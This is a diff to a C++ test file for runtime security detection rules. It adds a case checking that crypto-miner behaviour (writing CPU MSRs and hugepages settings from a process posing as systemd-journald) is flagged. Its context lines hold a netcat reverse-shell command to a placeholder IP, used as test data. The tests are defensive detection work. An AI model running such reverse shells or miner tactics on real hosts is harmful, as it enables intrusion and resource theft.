@@ -199,6 +199,21 @@ TEST_CASE("first_rules: a failed exec fires nothing", "[first_rules][miner]") {
     CHECK(fired(exec_scene("/bin/nc", {"nc", "-e", "/bin/sh", "1.2.3.4", "4444"}, -2)).empty());
 }
 
+TEST_CASE("first_rules: a miner configured by file still touches MSRs and huge pages", "[first_rules][miner]") {
+    Scene msr = open_scene("/dev/cpu/3/msr");
+    msr.event.open_flags = O_WRONLY;
+    msr.by("/tmp/systemd-journald", {"./systemd-journald"});
+    CHECK(fired(msr) == Names{"crypto_miner_msr_write"});
+    CHECK(fired(msr.on_host()) == Names{"crypto_miner_msr_write"});
+    CHECK(fired(open_scene("/dev/cpu/3/msr")).empty());  // turbostat reads them
+
+    Scene huge = open_scene("/proc/sys/vm/nr_hugepages");
+    huge.event.open_flags = O_WRONLY | O_TRUNC;
+    CHECK(fired(huge) == Names{"hugepages_write_from_container"});
+    CHECK(fired(huge.on_host()).empty());
+    CHECK(fired(open_scene("/proc/sys/vm/nr_hugepages")).empty());  // reading is harmless
+}
+
 TEST_CASE("first_rules: a port scan by any program, and busy clients that are none", "[first_rules][scanner]") {
     // fresh rules: the scan rule keeps state
     std::vector<std::string> errors;
